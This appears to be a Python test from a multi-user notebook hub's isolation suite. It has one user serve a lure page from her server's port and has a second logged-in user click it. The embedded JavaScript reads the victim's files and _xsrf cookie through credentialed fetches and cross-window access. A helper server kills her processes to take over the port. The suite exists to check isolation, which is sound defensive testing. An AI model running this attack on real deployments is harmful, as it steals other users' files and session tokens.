"""The one attempt that needs another's hand: a link to a page of hers, in the browser of who is logged in."""

from __future__ import annotations

import threading
from contextlib import suppress

import psutil
from playwright.sync_api import Page

from tests.cohort.hub.intrusion.ground import Ground, end, eventually
from tests.html.axe import chromium

_LURE = """<!doctype html><title>hers</title><button>Feedback</button><script>
async function go() {
  const seen = [], path = "ORIGIN/user/OTHER/", file = path + "api/contents/mine.txt";
  const wait = seconds => new Promise(done => setTimeout(done, seconds * 1000));
  const look = async work => { try { seen.push(String(await work())) } catch (fault) { seen.push(String(fault)) } };
  const other = window.open(path + "files/mine.txt"), lab = window.open(path + "lab");
  await look(async () => (await fetch(file, {credentials: "include"})).text());
  await wait(5);
  await look(() => other.document.body.innerText);
  await look(async () => {
    const xsrf = /_xsrf=([^;]*)/.exec(lab.document.cookie)[1];
    return (await lab.fetch(file, {headers: {"X-XSRFToken": xsrf}})).text();
  });
  document.body.innerText = "seen: " + JSON.stringify(seen);
}
document.querySelector("button").addEventListener("click", go);
</script>"""
_SERVER = """
import http.server, os, signal, time
class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write({lure!r})
http.server.ThreadingHTTPServer.allow_reuse_address = True
for _ in range(600):
    for process in {processes}:
        attack(process, lambda one: os.kill(one, signal.SIGKILL))
    attack("", lambda _: http.server.ThreadingHTTPServer(("127.0.0.1", {port}), Page).serve_forever())
    time.sleep(0.05)
"""


def lure(ground: Ground, address: str) -> str:
    """Serves a page of hers in place of her server, and another who is logged in opens it and presses its button.

    What listens at her server's port answers for /user/ann/ to whoever comes. Returns what she has read.
    """
    with chromium() as browser:
        log_in(browser.new_context().new_page(), address, ground.ann.name, ground.passwords[ground.ann.name])
        bens = browser.new_context().new_page()
        log_in(bens, address, ground.ben.name, ground.passwords[ground.ben.name])
        origin = bens.evaluate("location.origin")
        link = f"{origin}/user/{ground.ann.name}/lab".replace(f"//{ground.ben.name}.", f"//{ground.ann.name}.")
        page_of_hers = _LURE.replace("OTHER", ground.ben.name).replace("ORIGIN", origin).encode()
        serving = [(one.pid, port) for one in ground.processes_of(ground.ann) for port in _ports(one)]
        code = _SERVER.format(lure=page_of_hers, processes=[pid for pid, _ in serving], port=min(serving)[1])
        server = threading.Thread(target=ground.script, args=(code,))
        server.start()
        try:
            if not eventually(lambda: bens.goto(link) is not None and bens.title() == "hers", 60):
                raise RuntimeError(f"Her own page did not come, but {bens.url}.")
            bens.get_by_role("button").click()
            said = bens.locator("body").filter(has_text="seen: ")
            said.wait_for(timeout=120_000)
            return ground.took("home", answer=said.inner_text())
        finally:
            end(ground.processes_of(ground.ann))
            server.join(30)


def log_in(page: Page, address: str, name: str, password: str) -> None:
    """By the hub's form, until her server's page is there."""
    page.set_default_timeout(120_000)
    page.goto(f"{address}/hub/login?next=%2Fhub%2Fspawn")
    page.locator("[name=username]").fill(name)
    page.locator("[name=password]").fill(password)
    page.locator("[type=submit]").click()
    page.wait_for_url(f"**/user/{name}/**", wait_until="commit", timeout=300_000)


def _ports(process: psutil.Process) -> list[int]:
    """Where a server of pages listens: the first port of its process."""
    with suppress(psutil.Error):
        return [one.laddr.port for one in process.net_connections("tcp") if one.status == "LISTEN"]
    return []
